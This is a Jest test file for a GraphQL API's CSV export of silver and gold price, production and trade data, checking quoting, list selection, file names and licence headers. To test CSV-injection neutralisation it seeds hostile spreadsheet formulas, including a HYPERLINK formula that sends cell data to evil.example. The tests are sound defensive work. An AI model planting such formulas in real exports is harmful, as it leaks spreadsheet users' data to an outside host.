// Accept: text/csv on /graphql over HTTP, on every database kind, with the seeded real dataset:
// a connection, a series, a nested list, RFC 4180 quoting, row counts, JSON when the answer has
// errors; which list (csvPath / X-CSV-Path, 400 otherwise), formula cells neutralised, the file's
// name and its licences (Link). Expected values are data/*.csv's, worked by hand.
import { parse } from 'csv-parse/sync';
import { chooseList, CsvPathError, rowOf, tableOf } from '../../src/csv/table';
import { csvFilename } from '../../src/csv/middleware';
import { licenceUrl, licenceUrls } from '../../src/csv/licences';
import { addSources } from '../../src/csv/sources';
import { Source } from '../../src/modules/source/source.type';
import { databaseKinds } from '../helpers/db';
import { startTestServer, type TestServer } from '../helpers/server';

const csvHeaders = { accept: 'text/csv' };
const CC_BY = '<https://creativecommons.org/licenses/by/4.0/>; rel="license"';
const USGS = '<https://www.usgs.gov/information-policies-and-instructions/copyrights-and-credits>; rel="license"';

/** The CsvPathError tableOf throws (fails the test when it throws none). */
function pathError(data: unknown, chosen?: string): CsvPathError {
  try {
    tableOf(data, chosen);
  } catch (err) {
    if (err instanceof CsvPathError) return err;
    throw err;
  }
  throw new Error('tableOf threw no CsvPathError');
}

describe('tableOf: one list of a result, leaf fields as dotted paths', () => {
  test('a connection: its nodes; nested objects as dotted columns; lists inside an item as JSON', () => {
    const t = tableOf({ exportFlows: { totalCount: 2, edges: [{ node: { year: 2025, partner: { iso3: 'GBR', name: 'United Kingdom' }, tags: [1, 2] } }, { node: { year: 2024, partner: null } }] } });
    expect(t).toMatchObject({ path: 'exportFlows.edges', columns: ['year', 'partner.iso3', 'partner.name', 'tags'] });
    expect(t!.items).toHaveLength(2);
    expect(rowOf(t!.items[0], t!.paths)).toEqual([2025, 'GBR', 'United Kingdom', '[1,2]']);
    // An object null in the first item: its fields take its place in the column order.
    expect(tableOf({ list: [{ a: 1, change: null, z: 2 }, { a: 1, change: { percent: 3, previous: 4 }, z: 2 }] })?.columns).toEqual(['a', 'change.percent', 'change.previous', 'z']);
  });

  test('the only list: in a country object; a series its observations; scalars one column; none: null', () => {
    expect(tableOf({ country: { name: 'Kazakhstan', exports: [{ tonnes: 1 }] } })?.path).toBe('country.exports');
    expect(tableOf({ priceSeries: { frequency: 'MONTHLY', stats: { count: 1 }, observations: [{ date: '2024-01-01', value: 1 }] } })?.columns).toEqual(['date', 'value']);
    expect(tableOf({ list: [1, 2] })).toMatchObject({ columns: ['value'], items: [{ value: 1 }, { value: 2 }] });
    expect(tableOf({ country: { name: 'x' } })).toBeNull();
  });

  const series = { priceSeries: { sources: [{ name: 'World Bank Pink Sheet' }], observations: [{ date: '2024-01-01', value: 23.6 }] } };

  test('two lists and none chosen: CsvPathError listing both paths; chosen: that one', () => {
    const err = pathError(series);
    expect(err.paths).toEqual(['priceSeries.sources', 'priceSeries.observations']);
    expect(err.message).toContain('priceSeries.sources, priceSeries.observations');
    expect(err.message).toMatch(/csvPath.*X-CSV-Path/);
    expect(tableOf(series, 'priceSeries.observations')).toMatchObject({ path: 'priceSeries.observations', columns: ['date', 'value'] });
    expect(tableOf(series, 'priceSeries.sources')).toMatchObject({ path: 'priceSeries.sources', columns: ['name'] });
  });

  test('a chosen path that is not a list of the answer: CsvPathError with the lists and the path given', () => {
    const err = pathError(series, 'priceSeries');
    expect(err).toMatchObject({ paths: ['priceSeries.sources', 'priceSeries.observations'], chosen: 'priceSeries' });
    expect(err.message).toContain('"priceSeries" is not a list');
    expect(pathError(series, 'priceSeries.observations.value').chosen).toBe('priceSeries.observations.value');
    expect(pathError({ country: { name: 'x' } }, 'country').message).toContain('the answer has no list');
  });

  test('connections: `edges` names the list, `edges.node` too; lists inside list items are cells, not paths', () => {
    const data = { a: { edges: [{ node: { iso3: 'KAZ', production: [{ year: 2024 }] } }] }, b: [{ x: 1 }] };
    expect(chooseList(data, 'a.edges')?.items).toEqual([{ iso3: 'KAZ', production: [{ year: 2024 }] }]);
    expect(chooseList(data, 'a.edges.node')?.path).toBe('a.edges');
    expect(pathError(data).paths).toEqual(['a.edges', 'b']);
    expect(pathError(data, 'a.edges.node.production').paths).toEqual(['a.edges', 'b']);
    expect(rowOf(tableOf(data, 'a.edges')!.items[0], ['iso3', 'production'])).toEqual(['KAZ', '[{"year":2024}]']);
  });

  test('a list of scalars beside one list of objects: the objects are exported; the scalars only when chosen', () => {
    const data = { t: { metals: ['SILVER'], rows: [{ date: '2024-01-01' }] } };
    expect(tableOf(data)?.path).toBe('t.rows');
    expect(tableOf(data, 't.metals')).toMatchObject({ columns: ['value'], items: [{ value: 'SILVER' }] });
  });

  test('a price table: date, one column per metal named by it (in the order of metals), then the rest', () => {
    const answer = {
      priceTable: {
        metals: ['SILVER', 'GOLD'],
        rows: [
          { date: '2025-12-01', values: [66.5, null], isComplete: true },
          { date: '2026-01-01', values: [92.062, 4752.75], isComplete: false },
        ],
      },
    };
    const t = tableOf(answer)!;
    expect(t).toMatchObject({ path: 'priceTable.rows', columns: ['date', 'SILVER', 'GOLD', 'isComplete'] });
    expect(t.items.map((item) => rowOf(item, t.paths))).toEqual([
      ['2025-12-01', 66.5, null, true],
      ['2026-01-01', 92.062, 4752.75, false],
    ]);
    // Without `metals` in the answer the values stay one JSON cell.
    const bare = tableOf({ priceTable: { rows: answer.priceTable.rows } })!;
    expect(bare.columns).toEqual(['date', 'values', 'isComplete']);
    expect(rowOf(bare.items[1], bare.paths)).toEqual(['2026-01-01', '[92.062,4752.75]', false]);
  });
});

describe('rowOf: text a spreadsheet would run is neutralised (OWASP CSV injection)', () => {
  test('text starting with = + - @ tab or CR gets a leading quote; other text, numbers and booleans as they are', () => {
    const item = { a: '=HYPERLINK("https://evil.example","x")', b: '+1', c: '-2+3', d: '@SUM(A1)', e: '\tx', f: '\rx', g: 'a=b', h: -21.2, i: false, j: '2024-01-01', k: ['=1'] };
    expect(rowOf(item, Object.keys(item))).toEqual([`'=HYPERLINK("https://evil.example","x")`, `'+1`, `'-2+3`, `'@SUM(A1)`, `'\tx`, `'\rx`, 'a=b', -21.2, false, '2024-01-01', '["=1"]']);
  });

  test('the file name: the operation (or `query`), the list with dashes, only [A-Za-z0-9_.-]', () => {
    expect(csvFilename('PriceHistory', 'priceSeries.observations')).toBe('PriceHistory-priceSeries-observations.csv');
    expect(csvFilename(null, 'sources')).toBe('query-sources.csv');
    expect(csvFilename('', 'pricePoints.edges')).toBe('query-pricePoints-edges.csv');
    expect(csvFilename('a"b', 'x/y')).toBe('a_b-x_y.csv');
  });
});

describe('licences and the sources behind an answer', () => {
  test('licence text to a page: the known ones, a web address as it is, nothing for the rest', () => {
    expect(licenceUrl('CC BY 4.0')).toBe('https://creativecommons.org/licenses/by/4.0/');
    expect(licenceUrl(' cc by 4.0 ')).toBe('https://creativecommons.org/licenses/by/4.0/');
    expect(licenceUrl('Public domain (U.S. Government work)')).toBe('https://www.usgs.gov/information-policies-and-instructions/copyrights-and-credits');
    expect(licenceUrl('https://example.org/terms')).toBe('https://example.org/terms');
    expect(licenceUrl('https://example.org/a>b')).toBe('https://example.org/a%3Eb');
    expect(licenceUrl('All rights reserved')).toBeUndefined();
    expect(licenceUrl('')).toBeUndefined();
    expect(licenceUrl(null)).toBeUndefined();
    expect(licenceUrls(['CC BY 4.0', null, 'CC BY 4.0', 'x', 'Public domain (U.S. Government work)'])).toHaveLength(2);
  });

  test('addSources: Sources, figures (sourceId, sourceIds), through connections, never a getter, not into a figure', () => {
    const ids = new Set<number>();
    const source = Object.assign(new Source(), { dbId: 7 });
    const connection = {
      edges: [{ node: { sourceId: 3, previous: { sourceId: 99 } } }, { node: { sourceId: 4 } }],
      get totalCount(): number {
        throw new Error('a getter was read');
      },
    };
    addSources([connection, source, { sourceIds: [5, 6] }, { sourceId: null }, null, 'text'], ids);
    expect([...ids].sort((a, b) => a - b)).toEqual([3, 4, 5, 6, 7]);
  });
});

describe.each(databaseKinds)('CSV over HTTP (%s)', (kind) => {
  let s: TestServer;
  // A source whose text a spreadsheet would run (as an editor or an import could store it).
  const EVIL = '=HYPERLINK("https://evil.example/?d="&A1,"Pink Sheet")';
  beforeAll(async () => {
    s = await startTestServer(kind);
    await s.testDb.prisma.source.create({ data: { name: EVIL, publisher: '@SUM(1+1)', url: '-2+3', licence: '+CC' } });
  });
  afterAll(async () => {
    await s?.stop();
  });

  const post = (query: string, variables?: object, headers: Record<string, string> = csvHeaders, search = '') =>
    fetch(`${s.url}/graphql${search}`, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body: JSON.stringify({ query, variables }) });

  test('a connection: header of dotted paths, one line per node, CRLF, quoting; as many lines as nodes; CC BY for the Pink Sheet', async () => {
    const query = `{ pricePoints(filter: { metal: SILVER, kind: MONTHLY_AVERAGE, dateFrom: "2025-01-01" }, first: 100) { totalCount edges { node { date priceUsdPerOz isEstimate source { name licence } } } } }`;
    const res = await post(query);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="query-pricePoints-edges.csv"');
    expect(res.headers.get('vary')).toMatch(/Accept/i);
    expect(res.headers.get('link')).toBe(CC_BY);
    const text = await res.text();
    expect(text.split('\r\n')[0]).toBe('date,priceUsdPerOz,isEstimate,source.name,source.licence');
    const rows: string[][] = parse(text);
    // Silver monthly averages of data/prices.csv from January 2025 to February 2026.
    expect(rows).toHaveLength(14 + 1);
    expect(rows[1]).toEqual(['2025-01-01', '30.411', 'false', 'World Bank Pink Sheet', 'CC BY 4.0']);
    expect(rows.at(-1)!.slice(0, 2)).toEqual(['2026-02-01', '81.946']);
  });

  test('RFC 4180 quoting: notes with commas and quotes are quoted and read back whole', async () => {
    const query = `{ sources { name note } }`;
    const text = await (await post(query)).text();
    const json = (await (await post(query, undefined, { accept: 'application/json' })).json()) as any;
    const notes: string[] = json.data.sources.map((x: any) => x.note ?? '');
    expect(notes.some((n) => n.includes(','))).toBe(true);
    expect(text).toMatch(/\r\n[^\r\n]*,"[^"]*,/);
    const rows: string[][] = parse(text);
    expect(rows.slice(1).map((r) => r[1])).toEqual(notes);
  });

  test('a series: its observations, 794 monthly silver averages since 1960', async () => {
    const res = await post(`{ priceSeries(metal: SILVER, kind: MONTHLY_AVERAGE) { frequency stats { count } observations { date value count isEstimate } } }`);
    const rows: string[][] = parse(await res.text());
    expect(rows[0]).toEqual(['date', 'value', 'count', 'isEstimate']);
    expect(rows).toHaveLength(795);
    expect(rows[1][0]).toBe('1960-01-01');
    expect(rows.find((r) => r[0] === '2026-01-01')?.[1]).toBe('92.062');
  });

  test('a nested list: the country object leads to its exports; null cells are empty', async () => {
    const res = await post(`{ country(iso3: "KAZ") { name exports(year: 2025) { partner { iso3 name } tonnes valueUsd share } } }`);
    const rows: string[][] = parse(await res.text());
    expect(rows[0]).toEqual(['partner.iso3', 'partner.name', 'tonnes', 'valueUsd', 'share']);
    const gbr = rows.find((r) => r[0] === 'GBR')!;
    expect(gbr.slice(0, 3)).toEqual(['GBR', 'United Kingdom', '242.4']);
    expect(rows.some((r) => r.includes(''))).toBe(true); // flows with only tonnes have no value
  });

  test('an answer with errors stays JSON; so does one without a list (with nothing added); JSON clients are unaffected', async () => {
    const bad = await post(`{ country(iso3: "KAZ") { production(yearFrom: 2030, yearTo: 2020) { year } } }`);
    expect(bad.headers.get('content-type')).toMatch(/^application\/json/);
    expect(((await bad.json()) as any).errors[0].extensions.code).toBe('BAD_USER_INPUT');
    const noList = await post(`{ country(iso3: "KAZ") { name } }`);
    expect(noList.headers.get('content-type')).toMatch(/^application\/json/);
    expect(await noList.json()).toEqual({ data: { country: { name: 'Kazakhstan' } }, extensions: { cost: { requested: 1, limit: 1000 } } });
    const either = await post(`{ sources { name } }`, undefined, { accept: 'application/json, text/csv;q=0.5' });
    expect(either.headers.get('content-type')).toMatch(/^application\/json/);
  });

  test('GET with the CSRF preflight header answers CSV (the same answer twice: the second from the cache)', async () => {
    const url = `${s.url}/graphql?query=${encodeURIComponent('{ sources { name publishedOn } }')}`;
    const first = await fetch(url, { headers: { accept: 'text/csv', 'apollo-require-preflight': 'true' } });
    const second = await fetch(url, { headers: { accept: 'text/csv', 'apollo-require-preflight': 'true' } });
    const [a, b] = [await first.text(), await second.text()];
    expect(first.status).toBe(200);
    expect(a.split('\r\n')[0]).toBe('name,publishedOn');
    expect(b).toBe(a);
    expect(second.headers.get('etag')).toBeNull();
    expect(second.headers.get('link')).toBe(first.headers.get('link'));
    const refused = await fetch(url, { headers: { accept: 'text/csv' } });
    expect(refused.status).toBe(400); // Apollo's CSRF prevention, as for JSON
  });

  const twoLists = `query PriceHistory { priceSeries(metal: SILVER, kind: MONTHLY_AVERAGE, dateFrom: "2025-11-01", dateTo: "2026-01-01") { sources { name } observations { date value } } }`;

  test('two lists and none chosen: 400, a GraphQL error naming both paths, Vary: Accept', async () => {
    const res = await post(twoLists);
    expect(res.status).toBe(400);
    expect(res.headers.get('content-type')).toMatch(/^application\/json/);
    expect(res.headers.get('vary')).toMatch(/\bAccept\b/i);
    expect(res.headers.get('content-disposition')).toBeNull();
    const body = (await res.json()) as any;
    expect(body.data).toBeUndefined();
    expect(body.errors).toHaveLength(1);
    expect(body.errors[0].extensions).toEqual({ code: 'BAD_REQUEST', paths: ['priceSeries.sources', 'priceSeries.observations'] });
    expect(body.errors[0].message).toContain('priceSeries.sources, priceSeries.observations');
    expect(body.errors[0].message).toContain('csvPath');
    expect(body.errors[0].message).toContain('X-CSV-Path');
  });

  test('the list chosen by the csvPath parameter (POST and GET) or the X-CSV-Path header; named files; CC BY', async () => {
    const byParam = await post(twoLists, undefined, csvHeaders, '?csvPath=priceSeries.observations');
    expect(byParam.status).toBe(200);
    expect(byParam.headers.get('content-disposition')).toBe('attachment; filename="PriceHistory-priceSeries-observations.csv"');
    expect(byParam.headers.get('link')).toBe(CC_BY);
    expect(byParam.headers.get('vary')).toMatch(/X-CSV-Path/i);
    // Silver monthly averages of November 2025 to January 2026 (data/prices.csv).
    expect(parse(await byParam.text())).toEqual([['date', 'value'], ['2025-11-01', '50.432'], ['2025-12-01', '62.342'], ['2026-01-01', '92.062']]);

    const byHeader = await post(twoLists, undefined, { ...csvHeaders, 'x-csv-path': 'priceSeries.sources' });
    expect(byHeader.status).toBe(200);
    expect(byHeader.headers.get('content-disposition')).toBe('attachment; filename="PriceHistory-priceSeries-sources.csv"');
    expect(parse(await byHeader.text())).toEqual([['name'], ['World Bank Pink Sheet']]);

    const both = await post(twoLists, undefined, { ...csvHeaders, 'x-csv-path': 'priceSeries.observations' }, '?csvPath=priceSeries.observations');
    expect(both.status).toBe(200);

    const get = await fetch(`${s.url}/graphql?csvPath=priceSeries.observations&query=${encodeURIComponent(twoLists)}`, { headers: { accept: 'text/csv', 'apollo-require-preflight': 'true' } });
    expect(get.status).toBe(200);
    expect((await get.text()).split('\r\n')[0]).toBe('date,value');
  });

  test('a chosen path that is no list, or two different choices: 400 naming what was given and the lists', async () => {
    const notList = await post(twoLists, undefined, csvHeaders, '?csvPath=priceSeries.frequency');
    expect(notList.status).toBe(400);
    expect(notList.headers.get('vary')).toMatch(/\bAccept\b/i);
    const body = (await notList.json()) as any;
    expect(body.errors[0].extensions).toEqual({ code: 'BAD_REQUEST', paths: ['priceSeries.sources', 'priceSeries.observations'], csvPath: 'priceSeries.frequency' });
    expect(body.errors[0].message).toContain('"priceSeries.frequency" is not a list');

    const nested = await post(`{ countries(first: 2) { edges { node { iso3 production(yearFrom: 2024, yearTo: 2024) { year } } } } }`, undefined, { ...csvHeaders, 'x-csv-path': 'countries.edges.node.production' });
    expect(nested.status).toBe(400);
    expect(((await nested.json()) as any).errors[0].extensions.paths).toEqual(['countries.edges']);

    const conflict = await post(twoLists, undefined, { ...csvHeaders, 'x-csv-path': 'priceSeries.sources' }, '?csvPath=priceSeries.observations');
    expect(conflict.status).toBe(400);
    expect(conflict.headers.get('vary')).toMatch(/\bAccept\b/i);
    const message = ((await conflict.json()) as any).errors[0].message as string;
    expect(message).toContain('"priceSeries.observations" and "priceSeries.sources"');
  });

  test('connection edges chosen as `edges.node`; the file names the list', async () => {
    const res = await post(`query Nodes { pricePoints(filter: { metal: GOLD, kind: MONTHLY_AVERAGE, dateFrom: "2026-01-01" }, first: 1) { edges { node { date priceUsdPerOz } } } sources { name } }`, undefined, { ...csvHeaders, 'x-csv-path': 'pricePoints.edges.node' });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="Nodes-pricePoints-edges.csv"');
    expect(parse(await res.text())).toEqual([['date', 'priceUsdPerOz'], ['2026-01-01', '4752.75']]);
  });

  test('a malicious cell is neutralised and quoted; the unknown licence text gives no Link', async () => {
    const res = await post(`{ sources { name publisher url licence } }`);
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="query-sources.csv"');
    const text = await res.text();
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""Pink Sheet"")","'@SUM(1+1)","'-2+3","'+CC"\r\n`);
    const rows: string[][] = parse(text);
    expect(rows.find((r) => r[0].includes('HYPERLINK'))).toEqual([`'${EVIL}`, `'@SUM(1+1)`, `'-2+3`, `'+CC`]);
    // Every source's licence: the Pink Sheet's and USGS's pages; nothing for '+CC' or none.
    expect(res.headers.get('link')).toBe(`${USGS}, ${CC_BY}`);
    // The JSON answer of the same query is untouched.
    const json = (await (await post(`{ sources { name publisher url licence } }`, undefined, { accept: 'application/json' })).json()) as any;
    expect(json.data.sources.find((x: any) => x.name === EVIL)).toEqual({ name: EVIL, publisher: '@SUM(1+1)', url: '-2+3', licence: '+CC' });
    expect(Object.keys(json)).toEqual(['data', 'extensions']);
  });

  test('negative numbers stay numbers: Kazakhstan refined silver 2024 is 21.2% below 2023 (697.5 / 885.152)', async () => {
    const res = await post(`{ country(iso3: "KAZ") { production(stage: REFINED, yearFrom: 2024, yearTo: 2024, fullYearOnly: true) { year tonnes yoyChange { percent } } } }`);
    const text = await res.text();
    const rows: string[][] = parse(text);
    expect(rows[0]).toEqual(['year', 'tonnes', 'yoyChange.percent']);
    expect(rows[1][0]).toBe('2024');
    expect(rows[1][1]).toBe('697.5');
    expect(Number(rows[1][2])).toBeCloseTo(-21.2, 1);
    expect(text).toMatch(/\r\n2024,697\.5,-21\.2/);
    // EnergyProm and argentum's derivation have no licence: no Link.
    expect(res.headers.get('link')).toBeNull();
  });

  test('a price table: date and one column per metal, named by it (FRED style); its sources CC BY', async () => {
    const query = `query Prices { priceTable(metals: [SILVER, GOLD], kind: MONTHLY_AVERAGE, dateFrom: "2025-12-01", dateTo: "2026-01-01") { metals rows { date values isComplete } sources { name } } }`;
    const unchosen = await post(query);
    expect(unchosen.status).toBe(400);
    expect(((await unchosen.json()) as any).errors[0].extensions.paths).toEqual(['priceTable.metals', 'priceTable.rows', 'priceTable.sources']);
    const res = await post(query, undefined, csvHeaders, '?csvPath=priceTable.rows');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="Prices-priceTable-rows.csv"');
    expect(res.headers.get('link')).toBe(CC_BY);
    // data/prices.csv: silver 62.342 and gold 4,309.23 in December 2025; 92.062 and 4,752.75 in January 2026.
    expect(await res.text()).toBe('date,SILVER,GOLD,isComplete\r\n2025-12-01,62.342,4309.23,true\r\n2026-01-01,92.062,4752.75,true\r\n');
  });

  test('Link: USGS public domain for a mine production export, once for two USGS editions; CC BY from the cache too', async () => {
    const query = `{ productionYears(filter: { metal: SILVER, stage: MINE, yearFrom: 2024, yearTo: 2024, fullYearOnly: true }, first: 100) { edges { node { country { iso3 } tonnes } } } }`;
    const res = await post(query);
    expect(res.status).toBe(200);
    expect(res.headers.get('link')).toBe(USGS);
    const rows: string[][] = parse(await res.text());
    // MCS 2026 revised 2024 for 17 countries (USA 1,050 t), MCS 2025 gives the rest.
    expect(rows.find((r) => r[0] === 'USA')).toEqual(['USA', '1050']);

    const series = `{ priceSeries(metal: GOLD, kind: ANNUAL_AVERAGE) { observations { date value } } }`;
    const first = await post(series);
    const second = await post(series);
    expect(second.headers.get('x-cache')).toBe('HIT');
    expect(first.headers.get('link')).toBe(CC_BY);
    expect(second.headers.get('link')).toBe(CC_BY);
    // A JSON client of the same query gets its own answer, without anything meant for the CSV.
    const json = (await (await post(series, undefined, { accept: 'application/json' })).json()) as any;
    expect(Object.keys(json)).toEqual(['data', 'extensions']);
  });
});
